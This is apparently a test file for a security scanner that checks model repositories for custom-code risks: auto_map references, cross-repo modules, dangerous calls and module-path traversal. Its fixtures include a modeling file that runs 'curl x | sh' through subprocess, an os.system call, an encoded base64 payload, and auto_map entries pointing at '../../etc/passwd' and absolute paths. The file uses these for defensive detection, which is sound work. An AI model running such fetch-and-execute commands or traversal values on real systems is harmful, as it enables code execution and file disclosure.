import { describe, expect, it } from "vitest";
import { render } from "../../../src/reporters/index.js";
import { ruleTester } from "../../helpers/rule-tester.js";
import { findingsOf, scanFiles } from "../../helpers/scan-files.js";

const config = (autoMap: Record<string, unknown>): string => JSON.stringify({ model_type: "x", auto_map: autoMap });
const benignModeling = "import torch\nfrom torch import nn\nfrom .configuration_x import XConfig\n\nclass XModel(nn.Module):\n    def forward(self, x):\n        return x * 2\n";
const benignConfig = "from transformers import PretrainedConfig\n\nclass XConfig(PretrainedConfig):\n    model_type = 'x'\n";

ruleTester("remote-code-required", {
  valid: [{ name: "a config without auto_map", files: { "config.json": JSON.stringify({ model_type: "llama" }) } }],
  invalid: [
    {
      name: "auto_map naming local modules lists them with the relatively imported configuration module",
      files: { "config.json": config({ AutoModel: "modeling_x.XModel" }), "modeling_x.py": benignModeling, "configuration_x.py": benignConfig },
      expect: (f) => {
        expect(f[0]?.message).toContain("modeling_x.py");
        expect(f[0]?.message).toContain("configuration_x.py");
        expect(f[0]?.severity).toBe("low");
      },
    },
    {
      name: "a tokenizer auto_map in the [slow, fast] list form",
      files: { "tokenizer_config.json": JSON.stringify({ auto_map: { AutoTokenizer: ["tokenization_q.QTokenizer", null] } }), "tokenization_q.py": "class QTokenizer: pass\n" },
    },
    {
      name: "a processor config auto_map",
      files: { "preprocessor_config.json": JSON.stringify({ auto_map: { AutoProcessor: "processing_p.PProcessor" } }), "processing_p.py": "class PProcessor: pass\n" },
    },
    {
      name: "custom_pipelines impl",
      files: { "config.json": JSON.stringify({ custom_pipelines: { "text-classification": { impl: "pair_cls.PairPipeline", pt: ["AutoModel"] } } }), "pair_cls.py": "class PairPipeline: pass\n" },
    },
    { name: "Python files that no config references", files: { "handler.py": "def handler(x):\n    return x\n" }, expect: (f) => expect(f[0]?.message).toContain("handler.py") },
  ],
});

ruleTester("remote-code-cross-repo", {
  valid: [{ name: "a local auto_map reference", files: { "config.json": config({ AutoModel: "modeling_x.XModel" }), "modeling_x.py": benignModeling } }],
  invalid: [
    {
      name: "an owner/repo--module.Class reference names the other repo",
      files: { "config.json": config({ AutoModel: "attacker/codes--modeling_x.MyModel" }) },
      expect: (f) => {
        expect(f[0]?.message).toContain("attacker/codes");
        expect(f[0]?.severity).toBe("high");
      },
    },
  ],
});

ruleTester("remote-code-missing-module", {
  valid: [{ name: "the referenced module exists", files: { "config.json": config({ AutoConfig: "configuration_x.XConfig" }), "configuration_x.py": benignConfig } }],
  invalid: [{ name: "the referenced module is absent", files: { "config.json": config({ AutoConfig: "configuration_gone.XConfig" }) } }],
});

ruleTester("remote-code-dangerous-call", {
  valid: [
    { name: "a benign custom architecture", files: { "config.json": config({ AutoModel: "modeling_x.XModel" }), "modeling_x.py": benignModeling, "configuration_x.py": benignConfig } },
    { name: "dangerous calls only in comments and strings", files: { "modeling_y.py": "# os.system('x')\nDOC = 'never eval(input())'\n" } },
  ],
  invalid: [
    {
      name: "a modeling file that spawns a process at import",
      files: { "modeling_x.py": "import subprocess\nsubprocess.Popen(['sh', '-c', 'curl x | sh'])\n" },
      expect: (f) => {
        expect(f[0]?.region?.startLine).toBe(2);
        expect(f[0]?.severity).toBe("high");
        expect(f[0]?.region?.snippet).toContain("subprocess.Popen");
      },
    },
    { name: "environment access is reported at low severity", files: { "modeling_z.py": "import os\nflag = os.environ.get('X')\n" }, expect: (f) => expect(f[0]?.severity).toBe("low") },
    {
      // Qwen's tokenization_qwen.py loads its tiktoken vocabulary this way: a note, not a failure.
      name: "a tiktoken vocabulary decoded from a file is low-severity data decoding",
      files: {
        "tokenization_qwen.py":
          "import base64\n\ndef _load_tiktoken_bpe(tiktoken_bpe_file):\n    with open(tiktoken_bpe_file, 'rb') as f:\n        contents = f.read()\n    return {\n        base64.b64decode(token): int(rank)\n        for token, rank in (line.split() for line in contents.splitlines() if line)\n    }\n",
      },
      expect: (f) => {
        expect(f.map((x) => [x.severity, x.message.split(": ")[1]])).toEqual([["low", "base64.b64decode (data-decoding)"]]);
      },
    },
    {
      name: "an embedded base64 blob is a high-severity payload",
      files: { "modeling_p.py": 'import base64\n_P = "cHJpbnQoJ3B3bmVkJyk="\ncode = base64.b64decode(_P)\n' },
      expect: (f) => expect(f.map((x) => [x.severity, x.message.split(": ")[1]])).toEqual([["high", "base64.b64decode (encoded-payload)"]]),
    },
  ],
});

describe("checklist item 6 with custom code", () => {
  it("needs human review for custom code with no dangerous pattern", async () => {
    const report = await scanFiles({ "config.json": config({ AutoModel: "modeling_x.XModel" }), "modeling_x.py": benignModeling, "configuration_x.py": benignConfig });
    const item = report.checklist.find((i) => i.id === "dependency-scanning");
    expect(item?.status).toBe("review");
    expect(findingsOf(report, "remote-code-dangerous-call")).toEqual([]);
  });

  it("fails when the custom code spawns a process", async () => {
    const report = await scanFiles({ "config.json": config({ AutoModel: "modeling_x.XModel" }), "modeling_x.py": "import os\nos.system('id')\n" });
    expect(report.checklist.find((i) => i.id === "dependency-scanning")?.status).toBe("fail");
  });
});

ruleTester("remote-code-module-path", {
  valid: [
    { name: "a plain module.Class reference", files: { "config.json": config({ AutoConfig: "configuration_x.XConfig" }), "configuration_x.py": benignConfig } },
    { name: "an owner/repo--module.Class reference", files: { "config.json": config({ AutoModel: "someone/codes--modeling_x.XModel" }) } },
    {
      name: "a tokenizer auto_map list with a null fast tokenizer",
      files: { "tokenizer_config.json": JSON.stringify({ auto_map: { AutoTokenizer: ["tokenization_q.QTokenizer", null] } }), "tokenization_q.py": "class QTokenizer: pass\n" },
    },
    {
      name: "a cross-repo tokenizer list (the form chatglm and internlm derivatives publish)",
      files: { "tokenizer_config.json": JSON.stringify({ auto_map: { AutoTokenizer: ["THUDM/chatglm3-6b--tokenization_chatglm.ChatGLMTokenizer", null] } }) },
    },
    {
      name: "sentence-transformers modules.json with library and custom modules",
      files: {
        "modules.json": JSON.stringify([
          { idx: 0, name: "0", path: "", type: "custom_st.Transformer" },
          { idx: 1, name: "1", path: "1_Pooling", type: "sentence_transformers.models.Pooling" },
        ]),
        "custom_st.py": "class Transformer: pass\n",
      },
    },
    { name: "a Unicode module name is still a Python identifier", files: { "config.json": config({ AutoModel: "modèle_x.XModel" }), "modèle_x.py": "class XModel: pass\n" } },
  ],
  invalid: [
    {
      name: "an auto_map entry climbing out of the repo with ..",
      files: { "config.json": config({ AutoConfig: "../../etc/passwd.Config" }) },
      expect: (f) => {
        expect(f[0]?.severity).toBe("high");
        expect(f[0]?.message).toBe('config.json auto_map.AutoConfig names "../../etc/passwd.Config" as the module to import, which holds a parent-folder step (..): the loader would import a file outside the repo');
      },
    },
    { name: "an absolute path", files: { "config.json": config({ AutoModel: "/tmp/payload.Model" }) }, expect: (f) => expect(f[0]?.message).toContain("an absolute path") },
    { name: "a Windows drive path", files: { "config.json": config({ AutoModel: "C:\\Users\\x\\payload.Model" }) }, expect: (f) => expect(f[0]?.message).toContain("an absolute path") },
    { name: "a path separator inside the repo", files: { "config.json": config({ AutoModel: "sub/modeling_x.XModel" }) }, expect: (f) => expect(f[0]?.message).toContain("a path separator") },
    { name: "a character no module name has", files: { "config.json": config({ AutoModel: "modeling-x.XModel" }) }, expect: (f) => expect(f[0]?.message).toContain('the character "-"') },
    {
      name: "a path in the module part of a cross-repo reference",
      files: { "tokenizer_config.json": JSON.stringify({ auto_map: { AutoTokenizer: [null, "someone/codes--../../x.Tok"] } }) },
      expect: (f) => expect(f[0]?.message).toContain("auto_map.AutoTokenizer[1]"),
    },
    { name: "a repo id that climbs folders", files: { "config.json": config({ AutoModel: "../..--modeling_x.XModel" }) }, expect: (f) => expect(f[0]?.message).toContain("a repo id that is not owner/name") },
    { name: "a path as a sentence-transformers module type", files: { "modules.json": JSON.stringify([{ idx: 0, name: "0", path: "", type: "../evil.Module" }]) } },
    { name: "a path as a custom pipeline implementation", files: { "config.json": JSON.stringify({ custom_pipelines: { "text-classification": { impl: "/opt/x/pipe.Pipeline" } } }) } },
  ],
});

describe("a module path reference", () => {
  it("is counted as a module in the remoteCode section and not reported as a missing file", async () => {
    const report = await scanFiles({ "config.json": config({ AutoConfig: "../../etc/passwd.Config" }) });
    const section = (JSON.parse(render("json", report)) as { remoteCode: { required: boolean; references: unknown[] } }).remoteCode;
    expect(section.required).toBe(true);
    expect(section.references).toEqual([
      { module: "../../etc/passwd", file: "../../etc/passwd.Config", repo: null, local: true, present: false, via: "config.json auto_map.AutoConfig", unsafe: "a parent-folder step (..)", lookup: null },
    ]);
    expect(findingsOf(report, "remote-code-missing-module")).toEqual([]);
    expect(findingsOf(report, "remote-code-required")[0]?.message).toContain('"../../etc/passwd.Config" (a path, not a module name)');
    expect(report.verdict.passed).toBe(false);
  });
});
